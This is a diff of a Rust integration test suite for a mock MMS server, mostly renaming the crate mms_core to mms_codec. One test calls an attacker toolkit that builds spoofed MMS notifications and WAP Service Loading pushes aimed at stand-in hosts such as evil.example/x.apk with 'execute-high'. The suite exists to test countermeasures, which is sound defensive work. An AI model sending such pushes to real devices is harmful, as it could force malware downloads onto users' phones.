@@ -3,9 +3,9 @@
 //! countermeasure with real requests, the admin API and the attacker toolkit.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
 
-use mms_core::pdu::builder::{SendReqBuilder, notify_resp, read_rec};
-use mms_core::pdu::{MessageType, Pdu, ReadStatus, ResponseStatus, Status, TimeValue};
-use mms_core::push::{PushKind, decode_push};
+use mms_codec::pdu::builder::{SendReqBuilder, notify_resp, read_rec};
+use mms_codec::pdu::{MessageType, Pdu, ReadStatus, ResponseStatus, Status, TimeValue};
+use mms_codec::push::{PushKind, decode_push};
 use mock_mmsc::{FRONT_HEADER, MockConfig, MockMmsc, SUBSCRIBER_HEADER, attacker};
 use std::net::SocketAddr;
 use std::time::Duration;
@@ -377,14 +377,14 @@ async fn mmsc_5_expiry_and_delivery_time_are_clamped() {
     // A delivery time in the past means now; a near one is honoured by the sweeper.
     let mut past = send_req("T-3", bob.number).build();
     past.headers
-        .push(mms_core::pdu::Header::DeliveryTime(TimeValue::Absolute(5)));
+        .push(mms_codec::pdu::Header::DeliveryTime(TimeValue::Absolute(5)));
     submit(&c, &mmsc, alice.number, &past).await;
     assert!(bob.push(Duration::from_secs(5)).await.is_some());
     assert_eq!(mmsc.log_of("delivery_time_clamped").len(), 1);
     let mut later = send_req("T-4", bob.number).build();
     later
         .headers
-        .push(mms_core::pdu::Header::DeliveryTime(TimeValue::Relative(1)));
+        .push(mms_codec::pdu::Header::DeliveryTime(TimeValue::Relative(1)));
     submit(&c, &mmsc, alice.number, &later).await;
     assert!(bob.push(Duration::from_millis(500)).await.is_none());
     assert!(bob.push(Duration::from_secs(5)).await.is_some());
@@ -395,7 +395,7 @@ async fn mmsc_5_expiry_and_delivery_time_are_clamped() {
         .build();
     beyond
         .headers
-        .push(mms_core::pdu::Header::DeliveryTime(TimeValue::Relative(
+        .push(mms_codec::pdu::Header::DeliveryTime(TimeValue::Relative(
             7200,
         )));
     post(
@@ -479,8 +479,8 @@ async fn mmsc_7_read_reports_only_from_recipients_once_to_the_stored_originator(
         400
     );
     let mut big = read_rec(&ids[0], alice.number, ReadStatus::Read, None);
-    big.headers.push(mms_core::pdu::Header::Subject(
-        mms_core::pdu::builder::encoded_text(&"x".repeat(4000)),
+    big.headers.push(mms_codec::pdu::Header::Subject(
+        mms_codec::pdu::builder::encoded_text(&"x".repeat(4000)),
     ));
     assert_eq!(submit(&c, &mmsc, bob.number, &big).await.status, 413);
     // A real one naming Mallory in its To still goes to Alice, the stored originator.
@@ -648,7 +648,8 @@ async fn admin_api_registers_subscribers_queues_faults_and_exposes_logs() {
 
 #[tokio::test]
 async fn attacker_toolkit_builds_what_the_client_parses() {
-    use mms_core::provisioning::{Credentials, SecMethod, Secret, parse_xml, verify};
+    use mms_codec::provisioning::parse_xml;
+    use mms_decisions::provisioning::{Credentials, SecMethod, Secret, verify};
     let n = attacker::spoofed_notification("x1", "http://evil.example/a", Some("+1"), 10);
     let p = decode_push(&n).unwrap();
     let pdu = Pdu::decode(p.body).unwrap().pdu;
@@ -657,7 +658,7 @@ async fn attacker_toolkit_builds_what_the_client_parses() {
     let si = attacker::si_push("http://evil.example/", "Click", attacker::SiAction::High);
     let p = decode_push(&si).unwrap();
     assert_eq!(p.kind(), PushKind::ServiceIndication);
-    let parsed = mms_core::push::service::parse_si(p.body).unwrap();
+    let parsed = mms_codec::push::service::parse_si(p.body).unwrap();
     assert_eq!(parsed.href.as_deref(), Some("http://evil.example/"));
     assert_eq!(
         (parsed.text.as_str(), parsed.action.as_str()),
@@ -667,7 +668,7 @@ async fn attacker_toolkit_builds_what_the_client_parses() {
     let sl = attacker::sl_push("http://evil.example/x.apk", true);
     let p = decode_push(&sl).unwrap();
     assert_eq!(p.kind(), PushKind::ServiceLoading);
-    let parsed = mms_core::push::service::parse_sl(p.body).unwrap();
+    let parsed = mms_codec::push::service::parse_sl(p.body).unwrap();
     assert_eq!(
         (parsed.href.as_str(), parsed.action.as_str()),
         ("http://evil.example/x.apk", "execute-high")
@@ -695,16 +696,16 @@ async fn attacker_toolkit_builds_what_the_client_parses() {
         assert_eq!(p.kind(), PushKind::Provisioning);
         let sec = match p
             .content_type
-            .param(mms_core::pdu::content_type::param::SEC)
+            .param(mms_codec::pdu::content_type::param::SEC)
         {
-            Some(mms_core::pdu::ParamValue::Integer(s)) => Some(*s),
+            Some(mms_codec::pdu::ParamValue::Integer(s)) => Some(*s),
             _ => None,
         };
         let mac = p
             .content_type
-            .param(mms_core::pdu::content_type::param::MAC)
+            .param(mms_codec::pdu::content_type::param::MAC)
             .and_then(|m| match m {
-                mms_core::pdu::ParamValue::Text(t) => Some(t.to_string()),
+                mms_codec::pdu::ParamValue::Text(t) => Some(t.to_string()),
                 _ => None,
             });
         verify(sec, mac.as_deref(), p.body, &creds).is_ok()
@@ -722,11 +723,11 @@ async fn attacker_toolkit_builds_what_the_client_parses() {
     );
     let tpdus = attacker::as_sms("+15550000", &big, 7);
     assert!(tpdus.len() > 1);
-    let mut r = mms_core::push::Reassembler::new(Default::default());
+    let mut r = mms_codec::push::Reassembler::new(Default::default());
     let mut whole = None;
     for t in &tpdus {
-        let seg = mms_core::push::parse_deliver(t, true).unwrap();
-        if let mms_core::push::Reassembly::Complete { datagram, .. } = r.push(seg, 0) {
+        let seg = mms_codec::push::parse_deliver(t, true).unwrap();
+        if let mms_codec::push::Reassembly::Complete { datagram, .. } = r.push(seg, 0) {
             whole = Some(datagram);
         }
     }
@@ -743,7 +744,7 @@ async fn forward_without_retrieval_only_by_a_notified_recipient() {
     submit(&c, &mmsc, alice.number, &req).await;
     let loc = location(&bob.notified().await);
     // Carol cannot forward Bob's message.
-    let stolen = mms_core::pdu::builder::forward_req("F-0", &[alice.number], &loc);
+    let stolen = mms_codec::pdu::builder::forward_req("F-0", &[alice.number], &loc);
     let r = post(
         &c,
         &mmsc.url(),
@@ -757,7 +758,7 @@ async fn forward_without_retrieval_only_by_a_notified_recipient() {
         Some(ResponseStatus::PermanentMessageNotFound)
     );
     // Bob forwards it to Carol without downloading it.
-    let fwd = mms_core::pdu::builder::forward_req("F-1", &[carol.number], &loc);
+    let fwd = mms_codec::pdu::builder::forward_req("F-1", &[carol.number], &loc);
     let r = submit(&c, &mmsc, bob.number, &fwd).await;
     let conf = r.pdu();
     assert_eq!(conf.message_type, MessageType::ForwardConf);
@@ -822,7 +823,7 @@ async fn recipients_see_the_sender_s_full_number() {
     .await;
     let notif = bob.notified().await;
     let shown = |p: &Pdu<'_>| match p.from() {
-        Some(mms_core::pdu::FromValue::Address(a)) => a.to_string_lossy().into_owned(),
+        Some(mms_codec::pdu::FromValue::Address(a)) => a.to_string_lossy().into_owned(),
         other => format!("{other:?}"),
     };
     assert_eq!(shown(&notif), "+447700900123/TYPE=PLMN");
